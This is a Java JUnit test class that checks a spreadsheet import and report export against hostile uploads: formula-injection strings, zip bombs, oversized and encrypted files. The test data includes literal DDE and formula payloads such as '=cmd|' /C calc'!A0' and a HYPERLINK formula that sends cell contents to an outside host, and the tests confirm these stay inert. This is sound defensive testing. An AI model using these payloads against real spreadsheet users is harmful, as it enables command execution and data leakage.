package de.lenkwerk.report;

import de.lenkwerk.HostileCorpus;
import de.lenkwerk.ServiceTest;
import de.lenkwerk.TestData;
import de.lenkwerk.action.ActionFilter;
import de.lenkwerk.action.IndicatorData;
import de.lenkwerk.action.IndicatorDirection;
import de.lenkwerk.action.IndicatorItem;
import de.lenkwerk.action.IndicatorService;
import de.lenkwerk.action.ActionDetail;
import de.lenkwerk.action.ActionService;
import de.lenkwerk.base.UserFacingException;
import de.lenkwerk.body.BodyItem;
import de.lenkwerk.organisation.PersonItem;
import de.lenkwerk.report.ImportPreview.Kind;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.data.domain.Pageable;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.function.Supplier;

import static de.lenkwerk.report.HostileFiles.cell;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Issue 19, points 4 and 6: the hostile corpus in every import column, and hostile files. Every upload ends in a
 * clear refusal or in rows with reasons or literal text, nothing changes before apply, no report cell becomes a
 * formula, and each upload stays within generous bounds of time and memory (so that two busy cores do not fail it).
 */
@ServiceTest
class HostileUploadTest {

    /** Generous: an upload that builds a 500-million-digit number or inflates a bomb needs minutes or gigabytes. */
    private static final long MAX_MILLIS = 30_000;
    private static final long MAX_ALLOCATED_MB = 256;
    private static final List<String> ACTION_HEADERS = List.of("Nr.", "Titel", "Verantwortlich", "Organisation", "Frist",
            "Status", "Fortschritt", "Beschreibung");

    @Autowired
    ActionImportService imports;
    @Autowired
    ValueImportService valueImports;
    @Autowired
    StatusReportService reports;
    @Autowired
    ActionService actions;
    @Autowired
    IndicatorService indicators;
    @Autowired
    TestData fixture;

    private TestData.Committee committee;
    private BodyItem body;
    private PersonItem owner;

    @BeforeEach
    void setUp() {
        committee = fixture.committee("Feindselig");
        body = committee.body();
        owner = fixture.person("Greta Ganzgewöhnlich");
    }

    @Test
    void theCorpusInEveryActionColumnGivesOnlyRowsWithReasons() {
        fixture.signIn(committee.secretariat());
        var rows = new ArrayList<List<String>>();
        rows.add(ACTION_HEADERS);
        for (var value : HostileCorpus.VALUES) {
            rows.add(Collections.nCopies(ACTION_HEADERS.size(), value));
        }

        var preview = bounded("corpus in every column", () -> imports.preview(body.id(), "feind.xlsx",
                HostileFiles.workbook(rows)));

        assertThat(preview.rows()).hasSize(HostileCorpus.VALUES.size());
        assertThat(preview.rows()).allSatisfy(r -> {
            assertThat(r.kind()).isEqualTo(Kind.ERROR);
            assertThat(r.errors()).isNotEmpty();
        });
        assertThat(preview.rows()).extracting(ImportPreview.Row::number)
                .containsExactlyElementsOf(HostileCorpus.VALUES.stream().map(HostileCorpus::literal).toList());
        assertThat(actions.count(ActionFilter.ofBody(body.id()))).isZero();
    }

    @Test
    void hostileTitlesAndDescriptionsAreStoredAsLiteralTextAndNeverBecomeFormulasInTheReport() throws Exception {
        fixture.signIn(committee.secretariat());
        var rows = new ArrayList<List<String>>();
        rows.add(List.of("Titel", "Verantwortlich", "Frist", "Beschreibung"));
        var fitting = HostileCorpus.VALUES.stream().filter(v -> v.strip().length() <= 300).toList();
        for (var value : fitting) {
            rows.add(List.of(value, owner.fullName(), "31.03.2027", value));
        }
        rows.add(List.of(HostileCorpus.LONG, owner.fullName(), "31.03.2027", ""));

        var preview = bounded("hostile titles", () -> imports.preview(body.id(), "feind.xlsx",
                HostileFiles.workbook(rows)));

        assertThat(preview.rows().getLast().errors()).extracting(ImportPreview.Message::key)
                .containsExactly("import.row.title-too-long");
        assertThat(preview.rows().subList(0, fitting.size())).allSatisfy(r -> assertThat(r.kind()).isEqualTo(Kind.NEW));
        var applicable = new ImportPreview(preview.bodyId(), preview.fileName(), preview.headers(), preview.mapping(),
                preview.rows().subList(0, fitting.size()));
        assertThat(imports.apply(applicable)).isEqualTo(fitting.size());
        var stored = actions.list(ActionFilter.ofBody(body.id()), Pageable.unpaged());
        assertThat(stored).extracting(a -> a.title())
                .containsExactlyInAnyOrderElementsOf(fitting.stream().map(HostileCorpus::literal).toList());

        var report = new ByteArrayOutputStream();
        reports.write(new StatusReportRequest(ActionFilter.ofBody(body.id()), null, null, Locale.GERMAN), report);
        var texts = new ArrayList<String>();
        try (var workbook = new XSSFWorkbook(new ByteArrayInputStream(report.toByteArray()))) {
            for (var sheet : workbook) {
                for (var row : sheet) {
                    for (var c : row) {
                        assertThat(c.getCellType()).as(sheet.getSheetName() + "!" + c.getAddress())
                                .isNotEqualTo(CellType.FORMULA);
                        if (c.getCellType() == CellType.STRING) {
                            texts.add(c.getStringCellValue());
                            if (ReportCells.looksLikeFormula(c.getStringCellValue())) {
                                assertThat(c.getCellStyle().getQuotePrefixed()).as(c.getAddress().toString()).isTrue();
                            }
                        }
                    }
                }
            }
        }
        assertThat(texts).contains("=HYPERLINK(\"http://example.invalid/?\"&A1,\"Klick\")", "=cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", HostileCorpus.SCRIPT);
    }

    @Test
    void hostileDatesAndNumbersInTheirColumnsAreRefusedRowByRowAtOnce() {
        fixture.signIn(committee.secretariat());
        var rows = new ArrayList<List<String>>();
        rows.add(List.of("Titel", "Verantwortlich", "Frist", "Fortschritt"));
        for (var value : HostileCorpus.VALUES) {
            rows.add(List.of("Datum " + value.hashCode(), owner.fullName(), value, value));
        }
        rows.add(List.of("Fortschritt riesig", owner.fullName(), "31.03.2027", HostileCorpus.HUGE_EXPONENT));

        var measured = HostileFiles.measure("1E500000000 in the progress column", () -> {
            var preview = imports.preview(body.id(), "zahlen.xlsx", HostileFiles.workbook(rows));
            assertThat(preview.rows()).allSatisfy(r -> assertThat(r.kind()).isEqualTo(Kind.ERROR));
            assertThat(preview.rows().subList(0, HostileCorpus.VALUES.size())).allSatisfy(r -> assertThat(r.errors())
                    .extracting(ImportPreview.Message::key).anyMatch(k -> k.startsWith("import.row.date-")));
            assertThat(preview.rows().getLast().errors()).extracting(ImportPreview.Message::key)
                    .containsExactly("import.row.progress-invalid");
        });
        assertBounded(measured);
    }

    @Test
    void dateCellsOutsideTheSensibleRangeAreRefusedWithAMessage() throws Exception {
        fixture.signIn(committee.secretariat());
        byte[] file;
        try (var workbook = new XSSFWorkbook()) {
            var style = workbook.createCellStyle();
            style.setDataFormat(workbook.createDataFormat().getFormat("dd.mm.yyyy"));
            var sheet = workbook.createSheet("Liste");
            var header = sheet.createRow(0);
            var names = List.of("Titel", "Verantwortlich", "Frist");
            for (int i = 0; i < names.size(); i++) {
                header.createCell(i).setCellValue(names.get(i));
            }
            double[] serials = {2_958_466, 1e12, 2_958_465, 1, -5, 46_000};
            for (int i = 0; i < serials.length; i++) {
                var row = sheet.createRow(i + 1);
                row.createCell(0).setCellValue("Datum " + serials[i]);
                row.createCell(1).setCellValue(owner.fullName());
                var date = row.createCell(2);
                date.setCellValue(serials[i]);
                date.setCellStyle(style);
            }
            var out = new ByteArrayOutputStream();
            workbook.write(out);
            file = out.toByteArray();
        }

        var preview = imports.preview(body.id(), "daten.xlsx", file);

        assertThat(preview.rows()).extracting(r -> r.errors().isEmpty() ? "ok" : r.errors().getFirst().key())
                .containsExactly("import.row.date-invalid", "import.row.date-invalid", "import.row.date-out-of-range",
                        "import.row.date-out-of-range", "import.row.date-invalid", "ok");
        assertThat(preview.rows().getLast().data().deadline()).isEqualTo(LocalDate.of(2025, 12, 9));
    }

    @Test
    void theCorpusInEveryValueColumnGivesRowsWithReasonsAndOnlyRealNumbers() {
        var action = fixture.action(body, fixture.actionData("Messbar", owner.id(), 120));
        var today = fixture.today();
        IndicatorItem indicator = fixture.as(committee.secretariat(), () -> indicators.add(action.id(),
                new IndicatorData("Teilnehmende", "Personen", BigDecimal.ZERO, today.minusDays(60),
                        BigDecimal.valueOf(100), today.plusDays(120), IndicatorDirection.UP)));
        fixture.signIn(committee.secretariat());
        var everywhere = new ArrayList<List<String>>();
        var asValue = new ArrayList<List<String>>();
        var headers = List.of("Nr.", "Indikator", "Datum", "Wert", "Kommentar", "Kategorie");
        everywhere.add(headers);
        asValue.add(headers);
        for (int i = 0; i < HostileCorpus.VALUES.size(); i++) {
            var value = HostileCorpus.VALUES.get(i);
            everywhere.add(Collections.nCopies(headers.size(), value));
            asValue.add(List.of(action.number(), indicator.name(), today.minusDays(i + 1).toString(), value, value, ""));
        }

        var all = bounded("corpus in every value column", () -> valueImports.preview(body.id(), "werte.xlsx",
                HostileFiles.workbook(everywhere)));
        var values = bounded("corpus as values", () -> valueImports.preview(body.id(), "werte.xlsx",
                HostileFiles.workbook(asValue)));

        assertThat(all.rows()).allSatisfy(r -> assertThat(r.kind()).isEqualTo(Kind.ERROR));
        var numbers = List.of("2958466", "1e12", "-5", "-0,5");
        for (int i = 0; i < HostileCorpus.VALUES.size(); i++) {
            var row = values.rows().get(i);
            var value = HostileCorpus.VALUES.get(i);
            if (numbers.contains(value)) {
                assertThat(row.kind()).as(value).isEqualTo(Kind.NEW);
                assertThat(row.data().comment()).isEqualTo(value.strip());
            } else {
                assertThat(row.errors()).as(value).extracting(ImportPreview.Message::key)
                        .containsExactly("import.values.row.value-invalid");
            }
        }
        assertThat(indicators.allMeasurements(indicator.id())).isEmpty();
    }

    @Test
    void hostileFilesAreRefusedWithAClearMessageWithinBoundsOfTimeAndMemory() {
        fixture.signIn(committee.secretariat());
        var results = new ArrayList<HostileFiles.Measured>();
        results.add(refused("zip bomb (inflate ratio)", HostileFiles::ratioBomb, "import.error.unpacked-too-large"));
        results.add(refused("zip bomb (under the ratio, entry size)", HostileFiles::entrySizeBomb,
                "import.error.unpacked-too-large"));
        results.add(refused("6 MB file", HostileFiles::sixMegabytes, "import.error.too-large"));
        results.add(refused("renamed text file", HostileFiles::renamedText, "import.error.not-excel"));
        results.add(refused("password-protected workbook", HostileFiles::passwordProtected,
                "import.error.encrypted-or-xls"));
        results.add(refused("a cell in the last row", () -> HostileFiles.crafted(w -> w.write(
                "<row r=\"1\">" + cell("A1", "Titel") + "</row><row r=\"1048576\">" + cell("A1048576", "spät")
                        + "</row>"), null), "import.error.too-many-rows"));
        results.add(refused("a cell of 40,000 characters", () -> HostileFiles.crafted(w -> w.write(
                "<row r=\"1\">" + cell("A1", "Titel") + "</row><row r=\"2\">" + cell("A2", "x".repeat(40_000))
                        + "</row>"), null), "import.error.cell-too-long"));
        var rows = new ArrayList<List<String>>();
        rows.add(List.of("Titel"));
        for (int i = 0; i < 5_001; i++) {
            rows.add(List.of("Zeile " + i));
        }
        var tooMany = HostileFiles.workbook(rows);
        results.add(refused("5,001 rows", () -> tooMany, "import.error.too-many-rows"));
        assertThat(actions.count(ActionFilter.ofBody(body.id()))).isZero();
        results.forEach(this::assertBounded);
    }

    @Test
    void fiveThousandRowsWithACellInColumnXfdAreReadWithoutPadding() {
        fixture.signIn(committee.secretariat());
        var file = HostileFiles.crafted(w -> {
            w.write("<row r=\"1\">" + cell("A1", "Titel") + cell("B1", "Verantwortlich") + cell("C1", "Frist")
                    + cell("XFD1", "weit draußen") + "</row>");
            for (int r = 2; r <= 5_001; r++) {
                w.write("<row r=\"" + r + "\">" + cell("A" + r, "Maßnahme " + r) + cell("B" + r, owner.fullName())
                        + cell("C" + r, "31.03.2027") + cell("XFD" + r, "=1+1") + "</row>");
            }
        }, null);

        var measured = HostileFiles.measure("5,000 rows with XFD", () -> {
            var preview = imports.preview(body.id(), "breit.xlsx", file);
            assertThat(preview.rows()).hasSize(5_000).allSatisfy(r -> assertThat(r.kind()).isEqualTo(Kind.NEW));
            assertThat(preview.headers()).hasSize(3);
        });
        assertBounded(measured);
    }

    @Test
    void aCancelledApplyKeepsNothing() throws Exception {
        fixture.signIn(committee.secretariat());
        var rows = new ArrayList<List<String>>();
        rows.add(List.of("Titel", "Verantwortlich", "Frist"));
        for (int i = 0; i < 300; i++) {
            rows.add(List.of("Massenimport " + i, owner.fullName(), "31.03.2027"));
        }
        var preview = imports.preview(body.id(), "viele.xlsx", HostileFiles.workbook(rows));
        var progress = new ImportProgress();
        var watcher = Thread.ofPlatform().start(() -> {
            while (progress.done() < 0.2) {
                Thread.onSpinWait();
            }
            progress.cancel();
        });

        Throwable failure = null;
        try {
            imports.apply(preview, progress);
        } catch (UserFacingException e) {
            failure = e;
        }
        watcher.join(10_000);

        assertThat(failure).isInstanceOfSatisfying(UserFacingException.class,
                e -> assertThat(e.messageKey()).isEqualTo("import.cancelled"));
        assertThat(progress.done()).isBetween(0.2, 0.99);
        assertThat(actions.count(ActionFilter.ofBody(body.id()))).as("the rows applied before the cancel are rolled back")
                .isZero();
    }

    private HostileFiles.Measured refused(String name, Supplier<byte[]> file, String key) {
        var bytes = file.get();
        var measured = HostileFiles.measure(name + " (" + bytes.length / 1024 + " KB)",
                () -> imports.preview(body.id(), "feind.xlsx", bytes));
        assertThat(measured.failure()).as(name).isInstanceOfSatisfying(UserFacingException.class,
                e -> assertThat(e.messageKey()).isEqualTo(key));
        return measured;
    }

    private <T> T bounded(String name, Supplier<T> upload) {
        var result = new ArrayList<T>(1);
        var measured = HostileFiles.measure(name, () -> result.add(upload.get()));
        if (measured.failure() instanceof RuntimeException e) {
            throw e;
        }
        if (measured.failure() instanceof Error e) {
            throw e;
        }
        assertBounded(measured);
        return result.getFirst();
    }

    private void assertBounded(HostileFiles.Measured measured) {
        if (measured.failure() instanceof AssertionError e) {
            throw e;
        }
        assertThat(measured.millis()).as(measured.toString()).isLessThan(MAX_MILLIS);
        assertThat(measured.allocatedMegabytes()).as(measured.toString()).isLessThan(MAX_ALLOCATED_MB);
    }
}
